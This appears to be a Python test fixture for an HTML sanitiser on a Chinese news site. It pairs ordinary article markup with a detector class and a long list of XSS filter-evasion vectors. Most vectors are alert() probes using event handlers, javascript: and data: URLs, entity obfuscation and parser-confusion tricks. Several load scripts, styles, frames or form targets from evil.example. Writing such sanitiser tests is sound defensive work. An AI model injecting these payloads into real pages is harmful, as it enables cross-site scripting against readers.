"""Hostile HTML (OWASP filter-evasion style) and a detector for what survives.

Every vector carries the marker ``XSS`` inside its active part (the script,
the handler, the URL, the frame), so a page is safe when the marker appears
only as text a reader sees, never in a script, a style, an event handler or
a URL the browser would follow.
"""

import json
from html.parser import HTMLParser

MARKER = "XSS"

VECTORS = [
    # script tags, plain and disguised
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://evil.example/XSS.js></SCRIPT>",
    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    "<script/XSS src='https://evil.example/x.js'></script>",
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<script>/*<![CDATA[*/alert('XSS')/*]]>*/</script>",
    # every kind of event handler
    "<img src=x onerror=\"document.title='XSS'\">",
    "<img src=/media/a.jpg onload=alert('XSS')>",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))" alt=XSS>',
    "<body onload=alert('XSS')>",
    "<p onmouseover=\"alert('XSS')\">悬停</p>",
    '<a href="/" onclick="alert(\'XSS\')">点我</a>',
    "<div onfocus=alert('XSS') tabindex=0 autofocus>",
    "<details open ontoggle=alert('XSS')>",
    "<input autofocus onfocus=alert('XSS')>",
    "<video><source onerror=\"alert('XSS')\"></video>",
    "<marquee onstart=alert('XSS')>",
    # javascript:, vbscript:, data: URLs, with entity and case tricks
    "<a href=\"javascript:alert('XSS')\">链接</a>",
    "<a href=\"JaVaScRiPt:alert('XSS')\">链接</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS');\">链接</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('XSS')\">链接</a>",
    "<a href=\"&#x6A;avascript&colon;alert('XSS')\">链接</a>",
    "<a href=\" &#14;  javascript:alert('XSS');\">链接</a>",
    "<a href=\"vbscript:msgbox('XSS')\">链接</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=#XSS">链接</a>',
    "<img src=\"data:image/svg+xml,<svg onload=alert('XSS')>\">",
    "<img src=\"javascript:alert('XSS')\">",
    '<img src="https://evil.example/track.gif?XSS">',
    '<img src="//evil.example/XSS.png">',
    # SVG and MathML
    "<svg onload=alert('XSS')>",
    "<svg><script>alert('XSS')</script></svg>",
    "<svg><animate onbegin=alert('XSS') attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(\'XSS\')"><text x="20" y="20">XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS')></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:alert('XSS')\">点</math>",
    # malformed nesting and parser confusion
    '<img """><script>alert(\'XSS\')</script>">',
    "<p><a <img src=x onerror=alert('XSS')>></a></p>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS')>\"></noscript>",
    "<title><img src=x onerror=\"alert('XSS')\"></title>",
    "<textarea><script>alert('XSS')</script></textarea>",
    # styles and CSS expressions
    "<style>@import 'https://evil.example/XSS.css';</style>",
    "<p style=\"background:url(javascript:alert('XSS'))\">背景</p>",
    "<div style=\"width: expression(alert('XSS'));\">宽</div>",
    '<link rel=stylesheet href="https://evil.example/XSS.css">',
    # frames, objects, srcdoc, forms and formaction
    '<iframe src="https://evil.example/XSS"></iframe>',
    "<iframe srcdoc=\"<script>alert('XSS')</script>\"></iframe>",
    "<object data=\"javascript:alert('XSS')\"></object>",
    '<embed src="https://evil.example/XSS.swf">',
    '<form action="https://evil.example/XSS"><button>提交</button></form>',
    "<form><button formaction=\"javascript:alert('XSS')\">X</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'XSS\')">',
    '<base href="https://evil.example/XSS/">',
    # comments and CDATA
    "<!--<img src=\"--><img src=x onerror=alert('XSS')//\">",
    "<![CDATA[<script>alert('XSS')</script>]]>",
    "<!--[if gte IE 4]><script>alert('XSS')</script><![endif]-->",
]

# Vectors a browser reads as text or a comment when they arrive untouched:
# they turn live only in the output of a sanitiser that strips or re-joins
# naively (or from a tracking pixel, which is harmless to script but not to
# readers' privacy). The detector is not expected to flag them raw.
INERT_UNLESS_MANGLED = {
    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS')>\"></noscript>",
    "<title><img src=x onerror=\"alert('XSS')\"></title>",
    "<textarea><script>alert('XSS')</script></textarea>",
    "<!--<img src=\"--><img src=x onerror=alert('XSS')//\">",
    "<![CDATA[<script>alert('XSS')</script>]]>",
    "<!--[if gte IE 4]><script>alert('XSS')</script><![endif]-->",
    '<img src="https://evil.example/track.gif?XSS">',
    '<img src="//evil.example/XSS.png">',
}

# Newspaper markup that must come through cleaning byte for byte.
ORDINARY = [
    "<p>江门日报讯（记者 李明）“百千万工程”——侨乡的新答卷。</p>",
    "<h2>一、产业兴旺</h2>\n<p>全年完成投资 12.5 亿元，同比增长 8.3%；「重点项目」全部开工。</p>",
    "<h3>小标题</h3>\n<h4>更小的标题</h4>",
    "<p><strong>加粗</strong>、<b>粗体</b>、<em>强调</em>、<i>斜体</i>、<u>下划线</u>、<s>删除线</s>、H<sub>2</sub>O、m<sup>2</sup></p>",
    "<blockquote><p>“绿水青山就是金山银山。”</p></blockquote>",
    "<ul>\n<li>开平碉楼</li>\n<li>台山海鲜</li>\n</ul>\n<ol>\n<li>第一</li>\n<li>第二</li>\n</ol>",
    '<p>详见<a href="/articles/heshan/">鹤山专题</a>和'
    '<a href="https://www.jmrb.com/" rel="noopener noreferrer">江门日报网</a>，'
    '来信请寄<a href="mailto:news@jmrb.com">编辑部</a>。</p>',
    "<table>\n<thead>\n<tr>\n<th>镇街</th>\n<th>投资（亿元）</th>\n</tr>\n</thead>\n"
    '<tbody>\n<tr>\n<td>沙坪</td>\n<td>3.2</td>\n</tr>\n<tr>\n<td colspan="2">合计 3.2</td>\n</tr>\n</tbody>\n</table>',
    '<figure class="image"><img src="/media/images/2026/11/abc.jpg" alt="侨乡村新貌" width="1200" height="800">'
    "<figcaption>侨乡村新貌。（记者 李明 摄）</figcaption></figure>",
    "<p>第一段<br>\n第二行</p>\n<hr>\n<p>……全文完。</p>",
    "<p>a &lt; b &amp;&amp; c &gt; d，全角：（）《》【】！？；：、</p>",
]


class _Finder(HTMLParser):
    """Collects every place where the marker would be live, not text."""

    URL_ATTRIBUTES = {
        "href", "src", "srcset", "action", "formaction", "data", "srcdoc", "xlink:href", "poster", "background",
        "codebase", "dynsrc", "lowsrc", "style",
    }  # fmt: skip
    DANGEROUS_TAGS = {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "base", "frame"}
    # Data blocks (JSON-LD) are never run: they are safe while no text can end them early.
    DATA_SCRIPT_TYPES = {"application/ld+json", "application/json"}

    def __init__(self, allow_tags=()):
        super().__init__(convert_charrefs=True)
        self.allow_tags = set(allow_tags)
        self.live: list[str] = []
        self._raw: list[str] = []  # open script/style elements

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") and tag not in self.allow_tags:
                self.live.append(f"<{tag} {name}=…>")
            elif MARKER in value and name in self.URL_ATTRIBUTES:
                self.live.append(f"<{tag} {name}={value!r}>")
        if tag == "meta" and dict(attrs).get("http-equiv", "").lower() == "refresh":
            self.live.append("<meta http-equiv=refresh>")
        is_data = tag == "script" and (dict(attrs).get("type") or "").lower() in self.DATA_SCRIPT_TYPES
        if tag in self.DANGEROUS_TAGS and tag not in self.allow_tags and not is_data:
            self.live.append(f"<{tag}>")
        if tag in ("script", "style"):
            self._raw.append("data" if is_data else tag)

    def handle_endtag(self, tag):
        if self._raw and self._raw[-1] in (tag, "data" if tag == "script" else None):
            self._raw.pop()

    def handle_data(self, data):
        if self._raw and self._raw[-1] == "data":
            if "<" in data or not _is_json(data):  # "</script>" or "<!--" could end or bend the block
                self.live.append(f"<script data>{data[:60]!r}")
        elif self._raw and MARKER in data:
            self.live.append(f"<{self._raw[-1]}>{data[:60]!r}")


def _is_json(text: str) -> bool:
    try:
        json.loads(text)
    except ValueError:
        return False
    return True


def live_markup(html: str, allow_tags=()) -> list[str]:
    """Where hostile markup would run in ``html``; empty when safe.

    ``allow_tags`` names tags the page itself legitimately uses (the admin's
    own <script src> and <form>); those are checked for the marker only.
    """
    finder = _Finder(allow_tags)
    finder.feed(html)
    finder.close()
    return finder.live
